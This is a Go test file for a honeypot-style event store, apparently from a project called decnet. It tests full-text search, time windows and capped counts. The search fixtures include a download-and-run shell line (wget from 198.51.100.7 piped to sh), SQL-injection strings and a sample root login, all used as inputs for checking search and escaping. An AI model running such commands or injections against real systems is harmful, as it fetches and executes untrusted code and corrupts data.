package storetest

import (
	"fmt"
	"strings"
	"testing"
	"time"

	"github.com/decnet/decnet/pkg/decnet"
	"github.com/decnet/decnet/pkg/store"
)

// found are the numbers of the events that a query lists and counts, as event
// made them, the oldest first.
func found(t *testing.T, s *store.Store, what string, q store.EventQuery, of []decnet.Event) []int {
	t.Helper()
	q.Order, q.Limit = store.Asc, 2
	page := drain(t, func(cursor string) ([]decnet.Event, string, error) {
		q.Cursor = cursor
		return s.Events.List(t.Context(), q)
	}, func() {})
	q.Order, q.Cursor = store.Desc, ""
	back := drain(t, func(cursor string) ([]decnet.Event, string, error) {
		q.Cursor = cursor
		return s.Events.List(t.Context(), q)
	}, func() {})
	wantEqual(t, what+": newest first", reversed(back), page)
	var list []int
	for _, e := range page {
		for n := range of {
			if of[n].ID == e.ID {
				list = append(list, n)
			}
		}
	}
	if n, err := s.Events.Count(t.Context(), q); err != nil || n != uint64(len(page)) {
		t.Errorf("%s: Count = %d, %v, want %d", what, n, err, len(page))
	}
	return list
}

func text(fields ...string) func(*decnet.Event) {
	return func(e *decnet.Event) {
		e.Message = fields[0]
		for i, f := range fields[1:] {
			if e.Fields == nil {
				e.Fields = map[string]string{}
			}
			e.Fields[fmt.Sprintf("name%d", i)] = f
		}
	}
}

func testSearch(t *testing.T, s *store.Store) {
	long := strings.Repeat("x", 60)
	all := []decnet.Event{
		event(0, alice, text("cd /tmp && wget http://198.51.100.7/x86 -O- | sh")),
		event(1, alice, text("", "WGET again", "\x00other\x00")),
		event(2, bob, text("Größe ΣΊΣΥΦΟΣ 漢字 e\u0301t\u00e9")),
		event(3, bob, text("'; DROP TABLE events; -- \" * OR NOT NEAR(a b) col:word wor* ^first")),
		event(4, "", text(long+" end")),
		event(5, alice, login("root", "correct-horse", false)),
		event(6, alice),
		event(7, bob, text(strings.Repeat("flood ", 10_000)+"late", "\xff\xfe bad")),
	}
	ingest(t, s, all...)
	for search, want := range map[string][]int{
		"wget":                       {0, 1},
		"WgEt":                       {0, 1},
		"wget x86":                   {0},
		"x86 WGET":                   {0},
		"http://198.51.100.7/x86":    {0},
		"7.100.51.198":               {0}, // words, not a phrase
		"wge":                        nil, // whole words
		"other":                      {1},
		"größe":                      {2},
		"GRÖSSE":                     nil,
		"σίσυφοσ":                    {2},
		"σίσυφος":                    nil, // a final sigma is another letter
		"ΣΊΣΥΦΟΣ":                    {2},
		"漢字":                         {2},
		"e\u0301t\u00e9":             {2},
		"drop table":                 {3},
		"OR":                         {3},
		"not near a b":               {3},
		`"events"; *`:                {3},
		"wor*":                       {3}, // a word that is "wor"
		"-word":                      {3},
		long:                         {4},
		long + "yz":                  {4}, // the same as far as words are told apart
		"root":                       {5},
		"horse correct":              {5},
		"Y29ycmVjdC1ob3JzZQ":         nil, // a secret is found by its text
		"late":                       {7}, // a flood of one word is one word
		"bad":                        {7},
		"name0":                      nil,
		"nothing such":               nil,
		"\xff\xfe bad \x00":          {7},
		"':* | & ! <-> \\' bad":      {7},
		"bad\x1b[2J":                 nil,
		"' || (SELECT 1) || ' flood": nil,
	} {
		wantEqual(t, "search "+search, found(t, s, search, store.EventQuery{Search: search}, all), want)
	}
	for what, test := range map[string]struct {
		q    store.EventQuery
		want []int
	}{
		"of an attacker":      {store.EventQuery{Search: "wget", Attacker: idOf(alice)}, []int{0, 1}},
		"of another":          {store.EventQuery{Search: "wget", Attacker: idOf(bob)}, nil},
		"of a kind":           {store.EventQuery{Search: "root", Kind: decnet.KindAuthAttempt, Service: "ssh", Decky: "web-1"}, []int{5}},
		"of a session":        {store.EventQuery{Search: "wget", Session: "s-" + alice}, []int{0, 1}},
		"since":               {store.EventQuery{Search: "wget", Since: at.Add(1)}, []int{1}},
		"until":               {store.EventQuery{Search: "wget", Until: at.Add(1)}, []int{0}},
		"at no time":          {store.EventQuery{Search: "wget", Since: at.Add(time.Hour)}, nil},
		"attacker and window": {store.EventQuery{Attacker: idOf(alice), Since: at.Add(1), Until: at.Add(6)}, []int{1, 5}},
	} {
		wantEqual(t, what, found(t, s, what, test.q, all), test.want)
	}
	for what, search := range map[string]string{
		"no word": " -- ", "quotes": `""`, "bytes": "\xff", "too long": strings.Repeat("a ", 600), "too many": manyWords(17),
	} {
		_, _, err := s.Events.List(t.Context(), store.EventQuery{Search: search})
		wantCode(t, what, err, decnet.CodeInvalid)
		_, err = s.Events.Count(t.Context(), store.EventQuery{Search: search})
		wantCode(t, what, err, decnet.CodeInvalid)
	}
}

func manyWords(n int) string {
	var b strings.Builder
	for i := range n {
		fmt.Fprintf(&b, "w%d ", i)
	}
	return b.String()
}

func testTimes(t *testing.T, s *store.Store) {
	// Clocks run ahead, backwards and to the ends of what can be stored.
	offsets := []time.Duration{0, 5, 3, 100 * 24 * time.Hour, -100 * 24 * time.Hour, 1, time.Hour, 2}
	var all []decnet.Event
	for i, d := range offsets {
		all = append(all, event(i, []string{alice, bob}[i%2], func(e *decnet.Event) { e.Time = at.Add(d) }))
	}
	all = append(all,
		event(8, alice, func(e *decnet.Event) { e.Time = time.Date(1678, 1, 1, 0, 0, 0, 0, time.UTC) }),
		event(9, alice, func(e *decnet.Event) { e.Time = time.Date(2261, 12, 31, 23, 59, 59, 999999999, time.UTC) }),
	)
	for i := range all {
		ingest(t, s, all[i])
	}
	for what, test := range map[string]struct {
		since, until time.Time
		want         []int
	}{
		"ever":       {time.Time{}, time.Time{}, []int{0, 1, 2, 3, 4, 5, 6, 7, 8, 9}},
		"inclusive":  {at.Add(1), time.Time{}, []int{1, 2, 3, 5, 6, 7, 9}},
		"exclusive":  {time.Time{}, at.Add(1), []int{0, 4, 8}},
		"between":    {at, at.Add(4), []int{0, 2, 5, 7}},
		"one":        {at.Add(5), at.Add(6), []int{1}},
		"empty":      {at.Add(5), at.Add(5), nil},
		"backwards":  {at.Add(6), at, nil},
		"early":      {time.Time{}, at.Add(-24 * time.Hour), []int{4, 8}},
		"before all": {time.Time{}, time.Date(1000, 1, 1, 0, 0, 0, 0, time.UTC), nil},
		"after all":  {time.Date(9000, 1, 1, 0, 0, 0, 0, time.UTC), time.Time{}, nil},
	} {
		wantEqual(t, what, found(t, s, what, store.EventQuery{Since: test.since, Until: test.until}, all), test.want)
	}
	_, cursor, err := s.Events.List(t.Context(), store.EventQuery{Since: at, Limit: 1})
	if err != nil {
		t.Fatal(err)
	}
	_, _, err = s.Events.List(t.Context(), store.EventQuery{Since: at.Add(1), Limit: 1, Cursor: cursor})
	wantCode(t, "cursor of another time", err, decnet.CodeInvalid)
}

func testCountUpTo(t *testing.T, s *store.Store) {
	ingest(t, s, append(events(0, 30, alice), events(30, 50, bob)...)...)
	for _, test := range []struct {
		q    store.EventQuery
		most int
		want store.Count
	}{
		{store.EventQuery{}, 0, store.Count{N: 50}},
		{store.EventQuery{}, 50, store.Count{N: 50}},
		{store.EventQuery{}, 49, store.Count{N: 49, AtLeast: true}},
		{store.EventQuery{Attacker: idOf(bob)}, 49, store.Count{N: 20}},
		{store.EventQuery{Attacker: idOf(bob)}, 1, store.Count{N: 1, AtLeast: true}},
		{store.EventQuery{Search: "nothing"}, 1, store.Count{}},
	} {
		n, err := s.Events.CountUpTo(t.Context(), test.q, test.most)
		if err != nil || n != test.want {
			t.Errorf("up to %d: %+v, error %v, want %+v", test.most, n, err, test.want)
		}
	}
	for _, most := range []int{-1, store.MaxCount + 1} {
		_, err := s.Events.CountUpTo(t.Context(), store.EventQuery{}, most)
		wantCode(t, "most", err, decnet.CodeInvalid)
	}
}
